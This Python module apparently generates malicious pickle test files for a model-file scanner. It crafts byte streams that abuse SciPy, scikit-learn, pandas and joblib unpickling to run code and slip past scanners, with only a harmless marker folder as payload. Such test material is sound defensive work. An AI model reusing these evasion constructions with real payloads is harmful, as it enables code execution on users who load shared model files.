"""Families of hostile model files that give known objects a state which an unpickler takes in another way.

Like those of `hostile_families`, each file creates the folder or file `mark` when it is loaded without a guard.
"""

from __future__ import annotations

import copy
import pickle
import struct
from pathlib import Path

import numpy as np
import scipy.stats

from .hostile_models import text
from .hostile_opcodes import call, name, number, whole

_NORMAL = name("scipy.stats._continuous_distns", "norm_gen")
_SVC = name("sklearn.svm._classes", "SVC") + b")\x81"
_OBJECTS = name("numpy", "dtype") + text("O8") + b"\x89\x88\x87R"
_WRAPPER = name("joblib.numpy_pickle", "NumpyArrayWrapper")
_INNOCENT, _HARMFUL = ("numpy", "dtype"), ("joblib.disk", "mkdirp")


def _with(**items: bytes) -> bytes:
    """The opcodes of a dictionary."""
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def _code(mark: Path) -> bytes:
    """The state of a distribution, with code that SciPy runs."""
    functions = "\ndef _parse_args(self): pass\n_parse_args_rvs=_parse_args_stats=_parse_args\n"
    code = f"{functions}import os; os.mkdir('{mark}')\n"
    return _with(_parse_arg_template=b"X" + struct.pack("<I", len(code)) + code.encode(), _ctor_param=b"}") + b"b"


def _array(dtype: bytes, length: int = 1, **more: bytes) -> bytes:
    """The opcodes of the description of an array, without its last one."""
    shape = number(length) + b"\x85"
    items = {"subclass": name("numpy", "ndarray"), "shape": shape, "order": text("C"), "dtype": dtype}
    return _with(**items, allow_mmap=b"\x89", **more)


def _dtype(kind: str, size: int, flags: int) -> bytes:
    made = name("numpy", "dtype") + text(kind) + b"\x89\x88\x87R"
    return made + b"(K\x03" + text("|") + b"NNN" + number(size) + number(1) + bytes((0x4B, flags)) + b"tb"


def _remembered(module: str, thing: str) -> bytes:
    """The opcodes that put two texts into the first free places of the memo."""
    return text(module) + b"\x940" + text(thing) + b"\x940"


def _first_two(mark: Path) -> bytes:
    """Call the function that the first two places of the memo name."""
    return b"h\x00h\x01\x93" + text(str(mark)) + b"\x85R"


def other_classes(mark: Path, _url: str) -> dict[str, bytes]:
    frozen = name("scipy.stats._distn_infrastructure", "rv_frozen") + b")\x81"
    frame = name("pandas.core.frame", "DataFrame") + b")\x81"
    hidden = call("collections", "OrderedDict", b"](" + text("__class__") + _NORMAL + b"\x86e")
    uniform = copy.copy(scipy.stats.uniform)
    uniform.dtype = np.dtype("f8")
    return {
        "of-a-maker": whole(name("sklearn.neighbors._kd_tree", "newObj"), _NORMAL, b"\x85R", _code(mark)),
        "of-a-slot": whole(frozen, b"N", _with(__class__=_NORMAL), b"\x86b", _code(mark)),
        "of-a-hidden-slot": whole(frozen, b"N", hidden, b"\x86b", _code(mark)),
        "of-a-frame": whole(frame, _with(_typ=text("dataframe"), __class__=_NORMAL), b"b", _code(mark)),
        "of-an-inner-pickle": whole(_WRAPPER, b")\x81", _array(_OBJECTS), b"b", pickle.dumps(uniform, 4), _code(mark)),
    }


def array_sizes(mark: Path, _url: str) -> dict[str, bytes]:
    """Arrays whose bytes are opcodes for joblib, or that hide the opcodes which joblib follows."""
    hidden = call(*_HARMFUL, text(str(mark))) + b"0"
    behind = b"\xff" + hidden
    wrapper = _WRAPPER + b")\x81"
    aligned = _array(_dtype("S1", 1, 0), numpy_array_alignment_bytes=number(16))
    later = _array(_dtype("S1", 1, 0), 2)
    return {
        "a-size-in-the-state": whole(wrapper, _array(_dtype(f"V{len(behind)}", 1, 0)), b"b", behind),
        "two-states": whole(
            *(wrapper, b"q\x32", aligned, b"b\x00A0"), *(b"h\x32", later, b"b", b"\x03\xffN0.z"), hidden
        ),
        "a-method-in-the-state": whole(
            *(wrapper, _array(_dtype("S1", 1, 0), safe_get_numpy_array_alignment_bytes=name("builtins", "int")), b"b"),
            *(b"\x02N0.", hidden),
        ),
        "an-alignment-that-is-a-truth": whole(
            wrapper, _array(_dtype("S1", 1, 0), numpy_array_alignment_bytes=b"\x88"), b"b", b"\x02N0.", hidden
        ),
        "a-wrapper-of-a-maker": whole(
            *(name("sklearn.neighbors._kd_tree", "newObj"), _WRAPPER, b"\x85R", _array(_dtype("S1", 1, 0))),
            *(b"b.", hidden),
        ),
    }


def array_pickles(mark: Path, _url: str) -> dict[str, bytes]:
    """Arrays of objects, which are pickles of their own, at another place than it seems."""
    inner = _remembered(*_HARMFUL) + _first_two(mark)
    filled = b"\x80\x04" + b"K\x010" * (len(inner) % 2 == 0) + inner
    filled = filled[:2] + b"N0" * (-(len(filled) + 1) % 8 // 2) + filled[2:] + b"."
    start = _remembered(*_HARMFUL) + _WRAPPER + b")\x81" + _array(_OBJECTS) + b"b"
    rest = b"\x80\x04" + _remembered(*_INNOCENT) + _first_two(mark) + b"."
    frame = b"\x95" + struct.pack("<Q", len(start) + len(rest))
    return {
        "of-numbers": whole(
            *(_remembered(*_INNOCENT), _WRAPPER, b")\x81", _array(_dtype("f8", -1, 1), len(filled) // 8)),
            *(b"b", filled),
        ),
        "behind-a-frame": b"\x80\x04" + frame + start + rest + pickle.dumps(np.array([None]), 2),
        "without-the-flag": whole(
            *(_remembered(*_HARMFUL), _WRAPPER, b")\x81", _array(_dtype("O8", -1, 0), 0), b"b"),
            *(b"\x80\x04", _remembered(*_INNOCENT), _first_two(mark)),
        )
        + b".",
    }


def attributes(mark: Path, _url: str) -> dict[str, bytes]:
    """A property of scikit-learn calls a function that writes a file."""
    numbers = call("numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), number(0) + b"\x85", b"C\x01b")
    items = b"(K\x01K\x04\x85" + _dtype("S1", 1, 0) + b"\x89C\x04codetb"
    write = name("builtins", "getattr") + numbers + items + text("tofile") + b"\x86R"
    function = name("functools", "partial") + name("numpy", "log") + b"\x85R"
    replaced = function + b"(" + write + text(str(mark)) + b"\x85NNtb"
    model = _SVC + _with(kernel=text("linear"), _get_coef=replaced) + b"b"
    return {"a-property": whole(name("builtins", "getattr"), model, text("coef_"), b"\x86R")}
